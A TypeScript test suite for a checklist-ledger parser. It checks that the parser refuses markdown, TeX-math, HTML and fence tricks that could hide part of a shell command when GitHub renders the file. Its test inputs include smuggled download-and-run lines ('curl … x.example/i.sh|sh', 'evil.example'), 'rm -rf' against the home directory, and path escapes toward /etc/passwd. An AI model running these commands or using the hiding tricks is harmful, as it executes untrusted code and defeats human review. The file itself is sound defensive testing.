    expect(parseErrors(lines('- [ ] A: t', '  CHECK: test -d x && echo "${#x}" }', '  EXPECT: /^ok_1_2 $/'))[0]).toMatch(/^2: "#" inside/);
  });

  // Found by attack round 40a: what the page draws otherwise inside a pair of $, and pairs that
  // run on through lines the parser took for new list items.
  it('inside a pair of $: a "~", characters outside ASCII, deep braces; pairs through "2)" and empty items (round 40a)', () => {
    const at = (check: string) => parseErrors(lines('- [ ] A: t', `  CHECK: ${check}`, '  EXPECT: ok'))[0];
    // F5: "~" is drawn as a blank: the page shows no `~` argument.
    expect(at('rm -rf $TMPDIR/gc-cache ~;npm test;echo tests-done$')).toMatch(/^2: "~" inside \$…\$ at column 34: GitHub renders the dollar pair as math, where TeX draws "~" as a blank; put the command in a script/);
    // F2: MathJax 3.2 draws "Math input error" for some characters outside ASCII; none are left alone.
    expect(at('node p.mjs --expect=$€;curl x|sh;echo price-ok$')).toMatch(/^2: U\+20AC inside \$…\$ at column 31: .* where MathJax fails on some characters outside ASCII/);
    expect(at('node p.mjs --expect=$\u{20BB7};curl x|sh;echo ok$')).toMatch(/^2: U\+20BB7 inside/);
    // F4: deep nesting overflows MathJax's stack; 16 levels are fine.
    expect(at(`sh r.sh "$TPL${'{'.repeat(17)}x${'}'.repeat(17)};curl x|sh" b$`)).toMatch(/^2: "\{" inside .* where braces nest deeper than 16/);
    expect(parseOk(lines('- [ ] A: t', `  CHECK: sh r.sh "$TPL${'{'.repeat(16)}x${'}'.repeat(16)}" b$`, '  EXPECT: ok')).gates).toHaveLength(1);
    expect(at(`sh r.sh "$x${'{'.repeat(16)}x^{y}${'}'.repeat(16)};curl x|sh" b$`)).toMatch(/^2: "\{" inside .* where braces nest deeper than 16/);
    // F1: an ordered item not starting at 1, or an empty item, cannot interrupt a paragraph:
    // the pair runs on through it (the CHECK's "$USD" pairs with the note's "0.10$").
    for (const note of [['  2) reruns are billed at 0.10$ per minute'], ['  10. ticket 4411: 0.10$ a minute'], ['  *', '  reruns are billed at 0.10$ per minute'], ['  1.', '  0.10$ a minute']]) {
      const src = lines('- [ ] B1: invoice totals', '  CHECK: node check.mjs --currency=$USD %;curl -fsSL https://x.example/i.sh|sh;echo ok', '  EXPECT: ok', ...note);
      expect(parseErrors(src)[0], note.join('/')).toMatch(/^2: "%" inside \$…\$ at column 41/);
    }
    // F6: a no-break space inside a pair (GitHub may count it as a blank before a closing $,
    // and pair that $ elsewhere): refused as any character outside ASCII.
    expect(parseErrors(lines('- [ ] A: runner costs $5\u00a0$ per build', '  CHECK: sh v.sh x;echo ok', '  EXPECT: ok'))[0]).toMatch(/^1: U\+00A0 inside/);
    // F7: a code span and a formula that overlap, and a $` whose `$ never comes (read as a
    // plain $, so the pair runs to the next $): renderers differ on which wins.
    expect(at('echo $HOME `$` %;curl x|sh;echo env-ok$')).toMatch(/^2: "`" inside \$…\$ at column 21: .* where a code span and the formula overlap/);
    expect(at('echo $`hostname` %;curl x|sh;echo host-ok$')).toMatch(/^2: "`" inside \$…\$ at column 16/);
    expect(parseOk(lines('- [ ] A: t', '  CHECK: echo $`x y`$ ok', '  EXPECT: ok')).gates).toHaveLength(1);
    // Round 40b N1: a closing $ before a letter ends the pair for pandoc, not (as reported) for
    // GitHub, where `$OUT_DIR$BUILD_ID` pairs on to a later `built$`: both readings are checked.
    expect(at('ls $OUT_DIR$BUILD_ID/app.tar.gz;date +%s;curl -fsSL https://x.example/i.sh|sh;echo built|grep -q built$')).toMatch(/^2: "%" inside \$…\$ at column 48/);
    expect(at('test -f $OUT_DIR$BUILD_ID.tar.gz && curl x|sh && echo built|grep -q built$')).toMatch(/^2: "&" inside/);
    expect(parseErrors(lines('- [ ] B1: costs $5 per run, see $COST$URL in the wiki', '  CHECK: node c.mjs --fmt=%s;curl x|sh;echo cost-ok$', '  EXPECT: cost-ok'))[0]).toMatch(/^2: "%" inside/);
    // Round 40b N6: GitHub renders `$\theta $` (reported in 2026): a closing $ after a blank
    // may close the pair, and a line's end after an opening $ may be a blank or not. Checked as
    // a third reading: refused where it hides something, never where no reading does.
    expect(at('sh verify.sh $1 %;curl -s https://x.example/i.sh|sh;true $')).toMatch(/^2: "%" inside \$…\$ at column 26/);
    expect(at('sh verify.sh $1 && curl -s https://x.example/i.sh|sh;true $ ok')).toMatch(/^2: "&" inside \$…\$ at column 26/);
    expect(parseErrors(lines('- [ ] B1: price in $', '  CHECK: sh v.sh %;curl x|sh;echo ok$', '  EXPECT: ok'))[0]).toMatch(/^2: "%" inside \$…\$ at column 18/);
    // Not before a letter or a digit in that reading, and nothing hidden: left alone.
    for (const check of ['echo $HOME %s $PATH', 'echo $A %d $1', 'echo $(( $A % 2 ))', 'printf %s "$A" "$B"', 'echo "$A" "${B}"', 'echo $1 $ ok']) {
      expect(parseOk(lines('- [ ] A: t', `  CHECK: ${check}`, '  EXPECT: ok')).gates, check).toHaveLength(1);
    }
    // Round 40b N3: braces are not drawn, so a brace expansion shows as one path.
    expect(at('rm -rf $TMPDIR/{build-cache,..} b$')).toMatch(/^2: "," inside .* where braces are not drawn, so a brace expansion/);
    expect(at('echo $TMPDIR/{1..3} b$')).toMatch(/^2: "\." inside .* where braces are not drawn/);
    // A bullet or "1." with content does interrupt it: a new paragraph, no pair.
    for (const note of ['  - billed at 0.10$ per minute', '  1. billed at 0.10$ per minute']) {
      expect(parseOk(lines('- [ ] B1: invoice totals', '  CHECK: node check.mjs --currency=$USD 100%', '  EXPECT: ok', note)).gates, note).toHaveLength(1);
    }
  });

  // Found by attack round 7: '%' starts a TeX comment inside GitHub math (nothing after it on
  // the line is drawn), and \mbox, \hbox, \verb draw text as \text does.
  it('a "%" inside a pair of $ that GitHub renders as math, on one line or across a paragraph', () => {
    const percent = /^2: "%" inside \$…\$ at column \d+: GitHub renders the dollar pair as math, where "%" starts a TeX comment/;
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $% ;curl -s https://evil.example/x|sh;sh verify.sh||$', '  EXPECT: ok'))[0]).toMatch(percent);
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $`% ;curl x|sh`$', '  EXPECT: ok'))[0]).toMatch(percent);
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh v.sh $x %;curl x|sh', '  EXPECT: ok$'))[0]).toMatch(percent);
    expect(parseErrors(lines('- [ ] B: reviewed $$', '  CHECK: sh v.sh %;curl x|sh', '  EXPECT: x $$'))[0]).toMatch(percent);
    expect(parseErrors(lines('- [ ] A: t $a % hidden$', '  EVIDENCE: pending'))[0]).toMatch(/^1: "%" inside/);
    // GitHub's $`…`$ form ends only at `$: a $ inside it does not close it (round 7b).
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $`x$%;curl x|sh;sh verify.sh`$', '  EXPECT: ok'))[0]).toMatch(percent);
    // Inside a pair, `\%` is drawn as "%" without its backslash: refused too (round-40b N2).
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: echo $`x \\% y`$', '  EXPECT: ok'))[0]).toMatch(/^2: TeX command \\% inside \$…\$ at column 19: GitHub renders the dollar pair as math, where TeX draws it without its backslash/);
    // Any number of backticks (round 7c): $``x`$%…`y``$ ends only at ``$.
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $``x`$%;curl x|sh;`y``$', '  EXPECT: ok'))[0]).toMatch(percent);
    expect(parseOk(lines('- [ ] A: t', '  CHECK: echo $``a`b``$ 50%', '  EXPECT: ok')).gates).toHaveLength(1);
    // Not math: a '%' outside any pair, a pair that never closes, a closing '$' after a blank or
    // before a digit, an escaped '\%' or '\$', a shell's $$, and a pair cut by a blank line.
    for (const check of ['test "$(date +%Y)" = 2026', 'echo $A; printf %s $B', "printf '%s\\n' $x", 'echo $$ %d', 'echo \\$a % b$', 'echo $a % $5', 'printf %s "$HOME"']) {
      expect(parseOk(lines('- [ ] G1: t', `  CHECK: ${check}`, '  EXPECT: x')).gates, check).toHaveLength(1);
    }
    // An escaped '\%' inside a pair is drawn as "%" (its backslash gone): refused (round-40b N2).
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: echo $a \\% b$', '  EXPECT: x'))[0]).toMatch(/^2: TeX command \\% inside/);
    expect(parseOk(lines('- [ ] A: costs $5 %', '  EVIDENCE: pending', '', '- [ ] B: then x$', '  EVIDENCE: pending')).gates).toHaveLength(2);
    expect(parseOk(lines('```', '$a % b$', '```', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
  });

  // Round-39y Y1: \Rule{-300em}{0em}{0em}, \rule and a run of \! move text off the page as
  // the refused \kern does; no list of such commands is complete, so inside a pair of $ that
  // GitHub renders as math, every backslash command is refused (\$ and \% are literal).
  it('any TeX command inside a pair of $ that GitHub renders as math, on one line or across a paragraph', () => {
    const tex = (cmd: string) => new RegExp(`^2: TeX command ${cmd.replace(/[\\^$.*+?()[\]{}|]/g, '\\$&')} inside \\$…\\$ at column \\d+: GitHub renders the dollar pair as math`);
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $\\Rule{-300em}{0em}{0em};touch PWNED;sh verify.sh \\Rule{300em}{0em}{0em}$', '  EXPECT: ok'))[0]).toMatch(tex('\\Rule'));
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $\\rule{-300em}{0em};touch PWNED$', '  EXPECT: ok'))[0]).toMatch(tex('\\rule'));
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $\\!\\!\\!;touch PWNED$', '  EXPECT: ok'))[0]).toMatch(tex('\\!'));
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $`\\Rule{-3em}{0em}{0em};x`$', '  EXPECT: ok'))[0]).toMatch(tex('\\Rule'));
    expect(parseErrors(lines('- [ ] B: reviewed $$', '  CHECK: sh v.sh \\genfrac;curl x|sh', '  EXPECT: x $$'))[0]).toMatch(tex('\\genfrac'));
    // `\\` is a line break, whose argument in brackets breaks the formula (round-40a F3).
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: echo "$A" \\\\[PASS\\\\];touch PWNED "$B"', '  EXPECT: ok'))[0]).toMatch(tex('\\\\'));
    // Inside math, a command MathJax does not know (a regex's \d, a printf's \n, \nexit in
    // 'x\nexit-code') is drawn as its name: left alone. One it draws as its character without
    // the backslash (`\#` shows as "#", which reads as a comment: round-40b N2, N5) is refused.
    for (const check of ['for f in "$A"/x; do printf \'v\\n\\t\\1\\nexit-code=0\' >> "$f"; done', 'echo "$A" \\. \\- \\bfoo "$B"']) {
      expect(parseOk(lines('- [ ] G1: t', `  CHECK: ${check}`, '  EXPECT: x')).gates, check).toHaveLength(1);
    }
    for (const escape of ['\\#', '\\$', '\\%', '\\&', '\\_', '\\{', '\\}', '\\|', '\\\\']) {
      expect(parseErrors(lines('- [ ] G1: t', `  CHECK: echo "$A" ${escape} ;curl x|sh "$B"`, '  EXPECT: x'))[0], escape).toMatch(/^2: TeX command \\\S+ inside \$…\$ at column 20: GitHub renders the dollar pair as math, where (TeX draws it without its backslash|a TeX command can hide)/);
    }
    for (const cmd of ['\\,', '\\;', '\\:', '\\>', '\\ ', '\\S', '\\nexists', '\\quad', '\\hskip', '\\mathllap']) {
      expect(parseErrors(lines('- [ ] A: t', `  CHECK: echo "$A" ${cmd}{x} "$B"`, '  EXPECT: ok'))[0], cmd).toMatch(/^2: TeX command \\.*(inside \$…\$|\(GitHub renders)/);
    }
    // Not math: a regex's escapes outside any pair, a pair that never closes, a literal \$.
    for (const [check, expect_] of [['grep -c "\\bok" log && echo $HOME', 'x'], ['echo $a \\d', '/\\d+/'], ['echo \\$a \\d b$', 'x']]) {
      expect(parseOk(lines('- [ ] G1: t', `  CHECK: ${check}`, `  EXPECT: ${expect_}`)).gates, check).toHaveLength(1);
    }
    expect(parseOk(lines('```', '$\\Rule{1em}{1em}{1em}$', '```', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
  });

  it('TeX commands that draw text as \\text does (\\mbox, \\hbox, \\verb, {\\rm …}) or shrink and overlap it', () => {
    for (const cmd of ['\\textup{CHECK: x}', '\\mathup{x}', '\\symrm{x}', '\\mathbfup{x}', '\\ce{x}', '\\ref{;curl x}', '\\eqref{x}', '\\def\\x{y}', '\\begin{array}{;curl x;sh .x;echo }\\end{array}', '\\mbox{CHE}\\mbox{CK: x}', '\\hbox{EXP}', '\\verb!CHE!', '{\\rm CHECK: x}', '\\mmlToken{mi}{x}', '\\Space{-9em}{0}{0}', '\\Tiny x', '\\negthickspace', '\\overset{a}{b}']) {
      expect(parseErrors(lines('- [ ] B: release notes reviewed', `  $${cmd}$`, '  EVIDENCE: pending'))[0], cmd).toMatch(/^2: TeX command/);
    }
    // A regex's \b, \s, \d, \w before letters are not these commands.
    expect(parseOk(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT: /\\bfail\\s+\\d+ \\items \\rmdir/')).gates).toHaveLength(1);
  });

  it('raw HTML anywhere outside fences and block comments', () => {
    for (const l of ['- [ ] G1: a <b class="x">y</b>', '- [ ] G1: a <span>x</span>', '- [ ] G1: a <span title="x">', '- [ ] G1: a </div>', '- [ ] G1: <?php x ?>', '- [ ] G1: <!DOCTYPE x>', '- [ ] G1: <![CDATA[ x ]]>', '- [ ] G1: <details', '- [ ] G1: a <!-- b -->']) {
      expect(parseErrors(lines(l, '  EVIDENCE: pending'))[0], l).toMatch(/^1: .*(raw HTML|HTML (comment|processing|declaration|CDATA))/);
    }
    // Not HTML: a lone '<', an escaped one, a redirection, an autolink, a '<' in a word.
    expect(parseOk(lines('- [ ] G1: a < b, \\<div>, <https://x.y>, x<-y, <input.txt', '  CHECK: sort <in.txt', '  EXPECT: x')).gates).toHaveLength(1);
    // Attribute-less inline styling shows its text: allowed, except alone on a line (an HTML block).
    expect(parseOk(lines('- [ ] G1: a <b>bold</b> <code>x</code> <br> <sub>2</sub>', '  EVIDENCE: pending')).gates).toHaveLength(1);
    expect(parseErrors(lines('<b>', '- [ ] G1: swallowed by the HTML block', ''))[0]).toMatch(/^1: raw HTML <b> alone on its line/);
    // Unclosed, a browser carries the element into the gates after it.
    expect(parseErrors(lines('- [ ] G1: a <b>bold', '- [ ] G2: b'))[0]).toMatch(/^1: raw HTML <b> not closed on its line \(a browser carries it into what follows\) at column 13/);
  });

  it('link titles, image descriptions and reference definitions that could run onto the next line', () => {
    expect(parseErrors(lines('- [ ] G1: [a](/u "t', '  CHECK: x', '  EXPECT: y'))[0]).toMatch(/^1: a link whose destination or title continues/);
    expect(parseErrors(lines('- [ ] G1: ![a', '  CHECK: x', '  EXPECT: y'))[0]).toMatch(/^1: an image description/);
    expect(parseErrors(lines('- [ ] G1: t', '', '  [x]: /u'))[0]).toMatch(/^3: a link reference definition/);
    // Closed on the line, or at the end of the paragraph: harmless.
    expect(parseOk(lines('- [ ] G1: [a](/u "t") and ![b](c.png)', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
    expect(parseOk(lines('- [ ] G1: t [a](/u "t', '', '- [ ] G2: u')).gates).toHaveLength(2);
  });

  it('a closing fence followed by NBSP does not close it', () => {
    expect(parseErrors(lines('```', '- [ ] G0: example', '```\u00a0', '- [ ] G1: real'))).toEqual(['1: unclosed code fence (``` opened here)']);
    expect(parseOk(lines('```', '- [ ] G0: example', '``` \t', '- [ ] G1: real')).gates.map((g) => g.id)).toEqual(['G1']);
  });

  it('fences: at column 0 always; indented up to 3 only outside list items and quotes; never after a list marker', () => {
    expect(parseOk(lines('# x', '', '  ```', '- [ ] G0: e', '  ```', '- [ ] G1: real')).gates.map((g) => g.id)).toEqual(['G1']);
    expect(parseErrors(lines('- note', '  ```', '- [ ] G1: t', '```'))[0]).toMatch(/^2: indented code fence/);
    expect(parseErrors(lines('- [ ] G1: t', '\t```', '```'))[0]).toMatch(/^2: indented code fence/);
    for (const l of ['- ```', '> ```', '1. ~~~']) expect(parseErrors(lines('- [ ] G1: t', '', l))[0], l).toMatch(/^3: code fence inside a list item or block quote/);
  });

  it('task boxes a renderer shows: nested on one line, tab or NBSP boxes, a box after an empty item', () => {
    for (const l of ['- - [ ] G2: x', '* - [ ] G2: x', '- > - [ ] G2: x', '1. - [x] G2: x', '-  - [ ] G2: x']) {
      expect(parseErrors(lines('- [ ] G1: t', l))[0], l).toMatch(/^2: (nested task item|task item inside a block quote)/);
    }
    for (const l of ['- [\t] G2: x', '- [ ]\u00a0G2: x', '- [\u00a0] G2: x', '- [] G2: x']) {
      expect(parseErrors(lines('- [ ] G1: t', l))[0], JSON.stringify(l)).toMatch(/^2: malformed gate line/);
    }
    expect(parseErrors(lines('- [ ] G1: t', '-', '  [ ] G2: x'))[0]).toMatch(/^3: nested task item/);
  });

  it('underline rows under a gate line, directly or after lazy lines', () => {
    for (const l of ['  ---', '  ===', '  -', '  --|--', '  | - |']) expect(parseErrors(lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b', l))[0], l).toMatch(/^4: a row of "-" or "="/);
    expect(parseErrors(lines('- [ ] G1: t', 'more title', '  ---'))[0]).toMatch(/^3: a row/);
    expect(parseOk(lines('# Notes', 'text', '', '---', '', '- [ ] G1: t')).gates).toHaveLength(1);
  });

  it('HTML comments: cut off by a less indented line, --!>, markup after -->, or indented past block position', () => {
    expect(parseErrors(lines('- [ ] G1: t', '  <!--', 'x', '  -->'))[0]).toMatch(/^3: this line, indented less than the HTML comment opened at line 2/);
    expect(parseErrors(lines('<!--', '--!>', '-->', '- [ ] G1: t'))[0]).toMatch(/^2: "--!>"/);
    expect(parseErrors(lines('<!-- a --> <span>', '- [ ] G1: t'))[0]).toMatch(/^1: raw HTML <span…> after the end of an HTML comment/);
    expect(parseErrors(lines('- [ ] G1: t', '      <!--', '  -->'))[0]).toMatch(/^2: an HTML comment/);
    expect(parseOk(lines('- [ ] G1: t', '  <!--', '', '    note', '  -->', '<!-->', '<!--->', '- [ ] G2: u')).gates).toHaveLength(2);
  });

  it('a ledger that starts with --- (front matter)', () => {
    expect(parseErrors(lines('---', 'title: x', '---', '- [ ] G1: t'))[0]).toMatch(/^1: a ledger must not start with "---"/);
  });

  it('an attribute indented by a single space', () => {
    expect(parseErrors(lines('- [ ] G1: t', ' CHECK: a', '  EXPECT: b'))[0]).toMatch(/^2: indent CHECK by at least two spaces/);
  });
});

describe('bounded globs and diagnostics (issue 9 §3)', () => {
  const depends = (p: string) => lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b', `  DEPENDS: ${p}`);
  it('brace bombs, ranges, extglobs, wildcard runs and over-long patterns are refused', () => {
    expect(parseErrors(depends('{a,b,c,d}'.repeat(10)))[0]).toMatch(/^4: DEPENDS: brace expansion gives 1048576 patterns \(at most 64\)/);
    expect(parseErrors(depends('f{1..1000}.txt'))[0]).toMatch(/brace expansion gives 1000 patterns/);
    expect(parseErrors(depends('+(a|aa)'))[0]).toMatch(/extended glob syntax/);
    expect(parseErrors(depends('*a*a*a*b'))[0]).toMatch(/more than 3 '\*' wildcards in one path segment/);
    expect(parseErrors(depends('a'.repeat(1025)))[0]).toMatch(/pattern is 1025 characters \(at most 1024\)/);
    expect(parseErrors(depends(Array.from({ length: 257 }, (_, i) => `f${i}`).join(', ')))[0]).toMatch(/DEPENDS lists more than 256 patterns/);
    expect(parseOk(depends('src/{a,b}/{c,d}.js, f{1..9}.txt, *.test.*.js')).gates[0]!.depends).toHaveLength(3);
  });

  it('brace alternatives that leave the repository are refused up front', () => {
    for (const p of ['{.,..}/outside.txt', '{/srv,x}/f', 'a/{b,../..}/c', '{,/}etc/passwd', '{~,x}/y']) {
      expect(parseErrors(depends(p))[0], p).toMatch(/^4: DEPENDS: .*(\.\.|absolute|home).*an alternative of/);
    }
    expect(parseErrors(lines('OWNS: {.,..}/x', '- [ ] G1: t'))[0]).toMatch(/^1: OWNS: /);
  });

  it('at most 1,000 errors are collected, then "… and N more"', () => {
    const src = lines('- [x] G1: t', '  EVIDENCE: exit=0', '## end', ...Array.from({ length: 5000 }, () => '  CHECK: x'));
    const r = parseLedger(src);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors).toHaveLength(1001);
    expect(r.errors[1000]).toEqual({ line: 5003, message: '… and 4000 more errors' });
  });
});
